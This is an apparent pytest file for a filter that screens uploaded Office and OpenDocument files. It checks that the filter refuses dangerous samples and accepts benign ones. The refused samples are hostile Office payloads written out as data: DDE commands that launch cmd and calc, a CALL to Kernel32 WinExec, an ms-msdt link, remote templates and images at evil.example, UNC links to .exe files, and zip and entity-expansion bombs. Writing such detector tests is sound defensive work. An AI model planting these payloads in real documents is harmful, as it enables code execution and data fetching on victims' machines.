"""Office files: other spellings, fields, formulas and packages than those of `test_intake`."""

import time
import zipfile
from io import BytesIO

import pytest

from .test_intake import DOCX, REL, W, instructions, opendocument, package, refused, related, taken

SHEET = "xl/worksheets/sheet1.xml"
BOOK = "xl/workbook.xml"
TEMPLATE = "".join(related("attachedTemplate", "http://evil.example/a.dotm").values())
ELSEWHERE = "http://evil.example/a"


def field(*codes: str) -> bytes:
    def mark(kind):
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    fields = "".join(
        f"{mark('begin')}<w:r><w:instrText>{code}</w:instrText></w:r>{mark('end')}" for code in codes
    )
    return package({DOCX: f"<w:document {W}><w:p>{fields}</w:p></w:document>"})


def table(content: str, name=SHEET) -> bytes:
    return package({name: f"<x>{content}</x>"}, BOOK)


def formula(text: str, element="f") -> bytes:
    return table(f"<{element}>{text}</{element}>")


def sheet_of_libreoffice(text: str) -> bytes:
    return opendocument(f'<table:table-cell table:formula="of:={text}"/>', "spreadsheet")


BAD = {
    "relation in capitals": (package({"word/_rels/settings.xml.RELS": TEMPLATE}), "remote"),
    "relation in UTF-16": (package({"word/_rels/a.xml.rels": TEMPLATE.encode("utf-16-be")}), "remote"),
    "relation that hides that it leads elsewhere": (
        package({"word/_rels/a.xml.rels": TEMPLATE.replace("External", "Internal")}),
        "remote",
    ),
    "text under another name, in UTF-16": (
        package({"word/d.bin": f"<a {W}><w:instrText>DDE cmd</w:instrText></a>".encode("utf-16-be")}),
        "dde",
    ),
    "DDE after another field": (field("PAGE", "DDEAUTO cmd"), "dde"),
    "picture elsewhere, not quoted": (field(f"INCLUDEPICTURE {ELSEWHERE}.png \\d"), "remote"),
    "picture elsewhere, switch first": (field(f'INCLUDEPICTURE \\d "{ELSEWHERE}.png"'), "remote"),
    "text of a file share, not quoted": (field("INCLUDETEXT \\\\\\\\srv\\\\a.docx"), "remote"),
    "database elsewhere": (field('DATABASE \\d "\\\\\\\\srv\\\\a.mdb" \\c "x"'), "remote"),
    "field that leads to a file share": (field('HYPERLINK "file://srv/a.exe"'), "remote"),
    "field that starts a program": (package(instructions('HYPERLINK "ms-msdt:/id"')), "remote"),
    "drawing elsewhere": (
        package({"word/a.vml": f'<x><v:imagedata xmlns:v="v" src="{ELSEWHERE}"/></x>'}),
        "remote",
    ),
    "drawing with a script": (package({"word/media/a.svg": "<svg><script/></svg>"}), "program"),
    "drawing that grows": (
        package({"word/media/a.svg": '<!DOCTYPE svg [<!ENTITY a "b">]><svg>&a;</svg>'}),
        "damaged",
    ),
    "shortcut": (package({"word/media/a.png": b"L\0\0\0\1\x14\2\0" + bytes(99)}), "embedded"),
    "program of Java": (package({"word/media/a.png": b"\xca\xfe\xba\xbe" + bytes(99)}), "embedded"),
    "list of commands": (package({"word/media/Start.BAT": "calc"}), "embedded"),
    "web page": (package({"word/a.html": "<html/>"}), "embedded"),
    "DDE in a name": (formula("cmd|'/c calc'!A1", "definedName"), "dde"),
    "DDE in a rule for what may be typed": (formula("cmd|'/c calc'!A1", "formula1"), "dde"),
    "DDE in a condition": (formula("cmd|'/c calc'!A1", "formula"), "dde"),
    "DDE behind a text": (formula('IF("a"="a",cmd|\'/c calc\'!A1)'), "dde"),
    "program asked for numbers": (formula('RTD("evil.server","srv","x")'), "dde"),
    "function of Windows": (formula('CALL("Kernel32","WinExec","JCJ","calc",0)'), "dde"),
    "picture by formula": (formula(f'_xlfn.IMAGE("{ELSEWHERE}")'), "remote"),
    "answer of a server": (formula(f'_xlfn.WEBSERVICE("{ELSEWHERE}")'), "remote"),
    "file share by formula": (formula('HYPERLINK("\\\\srv\\a.exe","Preise")'), "remote"),
    "web query": (table(f'<webPr url="{ELSEWHERE}"/>', "xl/connections.xml"), "remote"),
    "query of a database": (table('<dbPr connection="Provider=a"/>', "xl/connections.xml"), "remote"),
    "text file of a file share": (
        table('<textPr sourceFile="\\\\srv\\a.txt"/>', "xl/connections.xml"),
        "remote",
    ),
    "background elsewhere": (opendocument(f'<draw:background-image xlink:href="{ELSEWHERE}"/>'), "remote"),
    "bullet elsewhere": (opendocument(f'<text:list-level-style-image xlink:href="{ELSEWHERE}"/>'), "remote"),
    "page that loads another one": (
        opendocument(f'<office:auto-reload xlink:href="{ELSEWHERE}"/>'),
        "remote",
    ),
    "form that is sent": (opendocument(f'<office:form xlink:href="{ELSEWHERE}"/>'), "remote"),
    "script in a text": (opendocument("<text:script>alert(1)</text:script>"), "program"),
    "DDE by formula, LibreOffice": (sheet_of_libreoffice("DDE(&quot;soffice&quot;;&quot;a&quot;)"), "dde"),
    "table of a file share, LibreOffice": (sheet_of_libreoffice("['file://srv/a.ods'#$T.A1]"), "remote"),
    "password": (
        b"\xd0\xcf\x11\xe0" + bytes(1000) + "EncryptedPackage".encode("utf-16-le") + bytes(1000),
        "password",
    ),
    "old file": (b"\xd0\xcf\x11\xe0" + bytes(1000) + "WordDocument".encode("utf-16-le"), "type"),
    # Made in the test, because every test process loads this module.
    "very many cells": (lambda: table("<c/>" * 4_100_000), "costly"),
}


@pytest.mark.parametrize(("content", "reason"), BAD.values(), ids=BAD)
def test_an_office_file_that_runs_hides_or_fetches_something_is_refused(content, reason):
    assert refused(content() if callable(content) else content) == reason


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA], ids=["bzip2", "LZMA"])
def test_what_is_packed_as_no_office_program_does_is_refused(method):
    output = BytesIO()
    with zipfile.ZipFile(output, "w", method) as archive:
        archive.writestr(DOCX, bytes(10_000_000))
    assert refused(output.getvalue()) == "damaged"


def test_a_package_that_lies_about_its_size_is_refused():
    content = bytearray(package({"word/media/a.bin": bytes(10_000_000)}))
    entry = content.rindex(b"PK\1\2")
    content[entry + 24 : entry + 28] = (100).to_bytes(4, "little")
    assert refused(bytes(content)) == "damaged"


GOOD = {
    "contents with links": field("TOC \\o", 'HYPERLINK "https://example.org"', 'HYPERLINK \\l "_Toc1"'),
    "picture beside the file, link beside the picture": field(
        "INCLUDEPICTURE bild.png", 'HYPERLINK "https://example.org"'
    ),
    "field with a question": field('FILLIN "Name: "'),
    "link by formula": formula('HYPERLINK("https://example.org","Seite: Preise")'),
    "sheet with a line in its name": formula("'a|b'!A1"),
    "words of a condition": formula('IF(A1="x|y!","IMAGE","CALL")'),
    "table beside this one": table("<x/>", "xl/externalLinks/externalLink1.xml"),
    "drawing of another program": package(
        {
            "word/media/a.svg": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "a.dtd"><svg><use href="#a"/></svg>'
        }
    ),
    "drawing with its picture": package(
        {"word/media/a.svg": '<svg><image href="data:image/png;base64,AAAA"/></svg>'}
    ),
    "shape with a link": package({"word/a.vml": '<x><shape href="https://example.org"/></x>'}),
    "parts in UTF-8 with a mark": package({DOCX: "<a/>".encode("utf-8-sig")}),
    "table of the same folder": package(
        {"xl/_rels/a.xml.rels": f'<x><relationship Type="{REL}/externalLinkPath" Target="b.xlsx"/></x>'}, BOOK
    ),
    "font that begins like markup": package({"word/fonts/font1.odttf": b"<\x9a\x01" + bytes(99)}),
}


@pytest.mark.parametrize("content", GOOD.values(), ids=GOOD)
def test_an_ordinary_office_file_is_taken(content):
    assert taken(content).kind


def test_a_sheet_of_a_million_columns_ends_soon():
    begin = time.monotonic()
    assert taken(table(f"<row>{'<c><v>1</v></c>' * 1_000_000}</row>")).kind
    assert time.monotonic() - begin < 30
